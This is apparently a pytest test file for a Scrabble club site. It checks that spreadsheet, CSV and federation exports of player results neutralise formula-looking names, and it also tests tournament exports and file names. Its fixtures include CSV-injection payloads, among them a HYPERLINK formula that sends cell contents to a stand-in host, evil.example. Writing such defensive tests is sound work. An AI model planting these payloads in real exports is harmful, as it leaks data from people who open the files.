"""Every results file a spreadsheet opens: a cell that reads like a formula (a player named `=HYPERLINK(…)`,
`+1+2`, `-3+4`, `@SUM(…)`, or starting with a tab or a carriage return) is written as text, never as a live
formula, while the numbers (a gap of -13) stay numbers."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from clubsite.models import ApiToken
from duplicate import exports
from duplicate.models import Session
from duplicate.player_lines import PlayerLine
from duplicate.services.results import result_set
from duplicate.services.rounds import round_add
from duplicate.services.tournaments import tournament_create

from .conftest import make_session

pytestmark = pytest.mark.django_db

# The players' rows start below the title (the session's name and date, an empty line), the header and the tops.
FIRST = 5
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+2", "-3+4", "@SUM(1+1)", "\t=1+2", "\r=1+2"]


def neutralised(name):
    return "'" + name


@pytest.fixture
def hostile_session(alice, lyon):
    """Six players with formula-looking names; the first tops the move, the others trail by 13 to 18."""
    session = make_session(alice, lyon, players=[f"Joueur {i}" for i in range(len(HOSTILE))])
    round_ = round_add(session=session, draw_text="VAGUEST", top_text="H4 VAGUE")
    for score, (player, name) in zip(range(26, 0, -1), zip(session.players.all(), HOSTILE, strict=True), strict=False):
        player.name = name
        player.save(update_fields=["name"])
        result_set(round_=round_, player=player, score=score if score == 26 else score - 12)
    return session


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-3+4", "'-3+4"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+2", "'＝1+2"),  # a full-width sign, which some spreadsheets read as "="
        ("  =1+2", "'  =1+2"),
        ("\x01=1+2", "'\x01=1+2"),
        ("Jean-Paul", "Jean-Paul"),
        ("Zoé", "Zoé"),
        ("", ""),
        (-13, -13),
        (69.2, 69.2),
        (None, None),
    ],
)
def test_a_formula_looking_text_becomes_text_and_a_number_stays_a_number(value, cell):
    assert exports.spreadsheet_cell(value) == cell


def test_the_csv_file(client, hostile_session, alice):
    client.force_login(alice)
    response = client.get(f"/duplicate/{hostile_session.pk}/export/csv/")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[2] for row in rows[FIRST:]] == [neutralised(name) for name in HOSTILE]
    assert [row[7] for row in rows[FIRST:]] == ["0", "-13", "-14", "-15", "-16", "-17"]  # gaps stay numbers


def test_the_xlsx_file(client, hostile_session, alice):
    client.force_login(alice)
    response = client.get(f"/duplicate/{hostile_session.pk}/export/xlsx/")
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [sheet.cell(row=row, column=3) for row in range(FIRST + 1, FIRST + 1 + len(HOSTILE))]
    assert [cell.data_type for cell in names] == ["s"] * len(HOSTILE)  # text, not "f" (a formula)
    # As typed, without the CSV's apostrophe (trial of issue 12: Excel showed it); XML reads a carriage return back
    # as a line feed.
    assert [cell.value for cell in names] == [name.replace("\r", "\n") for name in HOSTILE]
    gaps = [sheet.cell(row=row, column=8) for row in range(FIRST + 1, FIRST + 1 + len(HOSTILE))]
    assert [(cell.data_type, cell.value) for cell in gaps] == [("n", 0)] + [("n", -gap) for gap in range(13, 18)]


def test_the_federation_file(client, hostile_session, alice):
    client.force_login(alice)
    response = client.get(f"/duplicate/{hostile_session.pk}/export/federation/")
    rows = list(csv.reader(io.StringIO(response.content.decode("iso-8859-1"), newline="")))
    assert [row[1] for row in rows] == [neutralised(name) for name in HOSTILE]


def test_the_api_csv_ranking(client, hostile_session, alice):
    token = ApiToken.issue(alice)
    response = client.get(
        f"/api/duplicate/sessions/{hostile_session.pk}/ranking.csv", HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[2] for row in rows[FIRST:]] == [neutralised(name) for name in HOSTILE]


def test_the_tournament_files(client, hostile_session, alice, lyon):
    other = make_session(alice, lyon, players=("Anne",))
    tournament = tournament_create(name="Coupe", creator=alice, sessions=[hostile_session, other])
    client.force_login(alice)
    url = f"/duplicate/tournois/{tournament.pk}/?export="
    rows = list(csv.reader(io.StringIO(client.get(f"{url}csv").content.decode("utf-8-sig"), newline=""), delimiter=";"))
    # (the tab and the carriage return names are one player there: a tournament matches names stripped)
    names = {neutralised(name) for name in HOSTILE[:5]}
    # (the title: the name, the date, each session, an empty line; then the header and the tops)
    assert {row[1] for row in rows[7:]} == names | {"Anne"}
    sheet = load_workbook(io.BytesIO(client.get(f"{url}xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells)
    assert {cell.value for cell in cells} >= set(HOSTILE[:5])
    federation = list(csv.reader(io.StringIO(client.get(f"{url}federation").content.decode("iso-8859-1"))))
    assert {row[1] for row in federation} == names | {"Anne"}


def test_the_tournament_files_are_named_after_it(client, hostile_session, alice, lyon):
    other = make_session(alice, lyon, players=("Anne",))
    tournament = tournament_create(name="Coupe", creator=alice, sessions=[hostile_session, other])
    client.force_login(alice)
    url = f"/duplicate/tournois/{tournament.pk}/?export="
    expected = {
        "csv": ("text/csv; charset=utf-8", f"tournoi-{tournament.pk}-csv.csv"),
        "xlsx": (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            f"tournoi-{tournament.pk}-xlsx.xlsx",
        ),
        "federation": ("text/csv; charset=iso-8859-1", f"tournoi-{tournament.pk}-federation.csv"),
    }
    for kind, (content_type, name) in expected.items():
        response = client.get(f"{url}{kind}")
        assert response.status_code == 200
        assert response["Content-Type"] == content_type
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert client.get(f"{url}pdf").status_code == 404
    assert client.get(url).status_code == 200  # an empty kind is the page


def test_a_large_sessions_file_built_by_the_worker(hostile_session, alice):
    """The worker's file goes through the same cells as the one served at once."""
    content = exports.build(Session.objects.get(pk=hostile_session.pk), "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(sheet.cell(row=row, column=3).data_type == "s" for row in range(FIRST + 1, FIRST + 1 + len(HOSTILE)))


def test_a_control_character_xml_cannot_hold_does_not_hide_a_formula(alice, lyon):
    session = make_session(alice, lyon, players=("Anne",))
    session.players.update(name="\x01=1+2")
    sheet = load_workbook(io.BytesIO(exports.build(session, "xlsx"))).active
    assert (sheet["C6"].data_type, sheet["C6"].value) == ("s", "=1+2")


@pytest.fixture
def cup(alice, lyon):
    """Two evenings ranked together. Anne (licence and series on Tuesday, her club on Thursday, where she is
    typed "ANNE" with another licence) tops move 1 both times; Bruno plays on Tuesday only, Chloé on Thursday
    only, where she tops 4G AVIONS (18)."""
    tuesday = make_session(
        alice, lyon, players=[PlayerLine(1, "Anne", "123456", "", "A"), PlayerLine(2, "Bruno", "", "Paris", "")]
    )
    thursday = make_session(
        alice,
        lyon,
        name="Jeudi soir",
        date=datetime.date(2026, 11, 26),
        players=[PlayerLine(1, "ANNE", "999", "Lyon", ""), PlayerLine(2, "Chloé", "C77", "Grenoble", "B")],
    )
    for session, draws, scores in (
        (tuesday, [("VAGUEST", "H4 VAGUE")], [(26, 20)]),
        (thursday, [("VAGUEST", "H4 VAGUE"), ("ST+AIONX", "4G AVIONS")], [(26, 26), (10, 18)]),
    ):
        first, second = session.players.order_by("table")
        for (draw, top), (one, two) in zip(draws, scores, strict=True):
            move = round_add(session=session, draw_text=draw, top_text=top)
            result_set(round_=move, player=first, score=one)
            result_set(round_=move, player=second, score=two)
    return tournament_create(name="Coupe d'hiver", creator=alice, sessions=[thursday, tuesday])


def test_the_tournaments_csv_file_has_its_sessions_tops_and_people(client, alice, cup):
    client.force_login(alice)
    content = client.get(f"/duplicate/tournois/{cup.pk}/?export=csv").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(content, newline=""), delimiter=";")) == [
        ["Nom", "Coupe d'hiver"],
        ["Date", "24/11/2026"],
        ["Séance 1", "Mardi soir", "24/11/2026"],
        ["Séance 2", "Jeudi soir", "26/11/2026"],
        [],
        [*exports.TOURNAMENT_HEADER, "24/11 Mardi soir", "26/11 Jeudi soir"],
        ["Tops", "", "", "", "", "70", "", "", "26", "44"],
        ["1", "Anne", "123456", "Lyon", "A", "62", "-8", "88,6", "26", "36"],
        ["2", "Chloé", "C77", "Grenoble", "B", "44", "-26", "62,9", "0", "44"],
        ["3", "Bruno", "", "Paris", "", "20", "-50", "28,6", "20", "0"],
    ]


def test_the_tournaments_xlsx_file_keeps_numbers_and_freezes_its_header(client, alice, cup):
    client.force_login(alice)
    sheet = load_workbook(io.BytesIO(client.get(f"/duplicate/tournois/{cup.pk}/?export=xlsx").content)).active
    assert [sheet.cell(row=3, column=c).value for c in (1, 2, 3)] == [
        "Séance 1",
        "Mardi soir",
        datetime.datetime(2026, 11, 24),
    ]
    assert sheet["C4"].value == datetime.datetime(2026, 11, 26) and sheet["C4"].number_format == "DD/MM/YYYY"
    assert [cell.value for cell in sheet[7]] == ["Tops", None, None, None, None, 70, None, None, 26, 44]
    assert [cell.value for cell in sheet[8]] == [1, "Anne", "123456", "Lyon", "A", 62, -8, 88.6, 26, 36]
    assert [cell.data_type for cell in sheet[8]] == ["n", "s", "s", "s", "s", "n", "n", "n", "n", "n"]
    assert sheet.freeze_panes == "C8"  # the title, the header and the tops; the place and the name
    assert sheet["F6"].font.bold
    assert sheet.column_dimensions["I"].width == len("24/11 Mardi soir") + 2


def test_the_tournaments_page_gives_the_tops(client, alice, cup):
    client.force_login(alice)
    page = client.get(f"/duplicate/tournois/{cup.pk}/").content.decode()
    assert '<td><strong>70</strong></td><td colspan="2"></td><td>26</td><td>44</td>' in page


def test_the_federation_file_transliterates_what_latin_1_lacks(client, alice, lyon):
    names = ["Łukasz Œil", "Lecœur", "Zoé Ćwik", "Ana 😀", "😀=1+2"]
    session = make_session(alice, lyon, players=names)
    round_add(session=session, draw_text="VAGUEST", top_text="H4 VAGUE")
    client.force_login(alice)
    response = client.get(f"/duplicate/{session.pk}/export/federation/")
    rows = list(csv.reader(io.StringIO(response.content.decode("iso-8859-1"), newline="")))
    # Latin-1's own letters (é) stay; a dropped emoji cannot uncover a formula.
    assert [row[1] for row in rows] == ["Lukasz OEil", "Lecoeur", "Zoé Cwik", "Ana ", "'=1+2"]


def test_the_file_names_transliterate_too(client, alice, lyon):
    session = make_session(alice, lyon, players=["Anne"], name="Œuvre de Łódź", date=datetime.date(2026, 11, 24))
    assert exports.filename(session, "federation") == "2026-11-24-oeuvre-de-lodz-federation.csv"
    client.force_login(alice)
    game_file = client.get(f"/duplicate/{session.pk}/partie.json")
    assert game_file["Content-Disposition"] == 'attachment; filename="2026-11-24-oeuvre-de-lodz-partie.json"'
